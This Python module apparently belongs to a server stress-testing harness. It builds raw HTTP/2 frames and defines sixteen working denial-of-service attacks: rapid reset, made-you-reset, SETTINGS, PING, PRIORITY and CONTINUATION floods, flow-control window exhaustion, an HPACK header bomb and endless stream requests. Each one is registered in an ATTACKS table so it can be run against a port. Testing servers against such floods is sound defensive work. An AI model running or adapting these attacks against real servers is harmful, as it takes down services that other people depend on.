"""Hostile HTTP/2 clients, frame by frame (RFC 9113); none asks a library for leave."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Iterator

from bench.attacks.flood import flood, many, summary

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
ACK = END_STREAM = 1
END_HEADERS = 4
WIDEST = 2**31 - 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def setting(key: int, value: int) -> bytes:
    return struct.pack(">HI", key, value)


def fields(method: str, path: str) -> bytes:
    """A header block of literals without indexing: the same bytes for every stream."""
    verb = {"GET": b"\x82", "POST": b"\x83"}[method]
    return verb + b"\x86" + b"\x04" + bytes((len(path),)) + path.encode() + b"\x01\x09127.0.0.1"


def opening(*settings: bytes) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(settings)) + frame(SETTINGS, ACK, 0)


def get(stream: int, path: str) -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, fields("GET", path))


def odd() -> Iterator[int]:
    return itertools.count(1, 2)


def batches(frames: Iterator[bytes], size: int = 512) -> Iterator[bytes]:
    while batch := b"".join(itertools.islice(frames, size)):
        yield batch


def zero_window(port: int, until: float) -> str:
    """450 streams of 64 MiB over five connections whose windows are zero."""
    asking = opening(setting(4, 0)) + b"".join(get(stream, "/big") for stream in range(1, 180, 2))
    return summary(many(5, lambda: flood(port, [asking], until)))


def wide_window(port: int, until: float) -> str:
    """The same with the widest windows, and nothing read."""
    wide = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDEST - 65_535))
    asking = opening(setting(4, WIDEST)) + wide + b"".join(get(stream, "/big") for stream in range(1, 180, 2))
    return summary(many(5, lambda: flood(port, [asking], until, reads=False)))


def rapid_reset(port: int, until: float) -> str:
    """HEADERS and RST_STREAM in pairs."""
    cancel = struct.pack(">I", 8)
    pairs = (get(stream, "/big") + frame(RST_STREAM, 0, stream, cancel) for stream in odd())
    return str(flood(port, itertools.chain([opening()], batches(pairs)), until))


def made_you_reset(port: int, until: float) -> str:
    """Requests followed by a WINDOW_UPDATE of zero, which makes the server reset them."""
    pairs = (get(stream, "/big") + frame(WINDOW_UPDATE, 0, stream, bytes(4)) for stream in odd())
    return str(flood(port, itertools.chain([opening()], batches(pairs)), until))


def _frames(port: int, until: float, one: bytes, *, reads: bool = True, first: bytes = b"") -> str:
    whole = itertools.chain([opening() + first], batches(itertools.repeat(one), 4096))
    return str(flood(port, whole, until, reads=reads))


def settings_flood(port: int, until: float) -> str:
    return _frames(port, until, frame(SETTINGS, 0, 0, setting(3, 100)))


def settings_unread(port: int, until: float) -> str:
    return _frames(port, until, frame(SETTINGS, 0, 0, setting(3, 100)), reads=False)


def ping_flood(port: int, until: float) -> str:
    return _frames(port, until, frame(PING, 0, 0, bytes(8)))


def ping_unread(port: int, until: float) -> str:
    return _frames(port, until, frame(PING, 0, 0, bytes(8)), reads=False)


def empty_data(port: int, until: float) -> str:
    """Empty DATA frames on an open upload."""
    upload = frame(HEADERS, END_HEADERS, 1, fields("POST", "/echo"))
    return _frames(port, until, frame(DATA, 0, 1), first=upload)


def tiny_data(port: int, until: float) -> str:
    """DATA frames of one byte on an open upload."""
    upload = frame(HEADERS, END_HEADERS, 1, fields("POST", "/echo"))
    return _frames(port, until, frame(DATA, 0, 1, b"x"), first=upload)


def window_updates(port: int, until: float) -> str:
    """Windows opened one byte at a time while a download waits."""
    return _frames(port, until, frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), first=get(1, "/big"))


def priorities(port: int, until: float) -> str:
    return _frames(port, until, frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)))


def continuations(port: int, until: float) -> str:
    """A header block that goes on in CONTINUATION frames and never ends."""
    more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3)
    first = frame(HEADERS, END_STREAM, 1, fields("GET", "/"))
    return _frames(port, until, more, first=first)


def empty_continuations(port: int, until: float) -> str:
    first = frame(HEADERS, END_STREAM, 1, fields("GET", "/"))
    return _frames(port, until, frame(CONTINUATION, 0, 1), first=first)


def header_bomb(port: int, until: float) -> str:
    """One field of 4 KB put into the table, then named thousands of times in a block."""
    value = b"v" * 3900
    put = b"\x40\x01b\x7f" + bytes(((len(value) - 127) & 0x7F | 0x80, (len(value) - 127) >> 7)) + value
    first = frame(HEADERS, END_STREAM | END_HEADERS, 1, fields("GET", "/") + put)
    named = fields("GET", "/") + b"\xbe" * 16_000
    blocks = (frame(HEADERS, END_STREAM | END_HEADERS, stream, named) for stream in itertools.count(3, 2))
    return str(flood(port, itertools.chain([opening() + first], batches(blocks, 4)), until))


def streams(port: int, until: float) -> str:
    """Small requests without end on one connection, answers read."""
    asking = (get(stream, "/") for stream in odd())
    return str(flood(port, itertools.chain([opening()], batches(asking)), until))


ATTACKS = {
    "h2 zero window, 450 downloads": zero_window,
    "h2 wide window, 450 downloads, nothing read": wide_window,
    "h2 rapid reset": rapid_reset,
    "h2 made to reset": made_you_reset,
    "h2 SETTINGS flood": settings_flood,
    "h2 SETTINGS flood, nothing read": settings_unread,
    "h2 PING flood": ping_flood,
    "h2 PING flood, nothing read": ping_unread,
    "h2 empty DATA": empty_data,
    "h2 one-byte DATA": tiny_data,
    "h2 WINDOW_UPDATE flood": window_updates,
    "h2 PRIORITY flood": priorities,
    "h2 CONTINUATION flood": continuations,
    "h2 empty CONTINUATION flood": empty_continuations,
    "h2 header bomb": header_bomb,
    "h2 requests without end": streams,
}
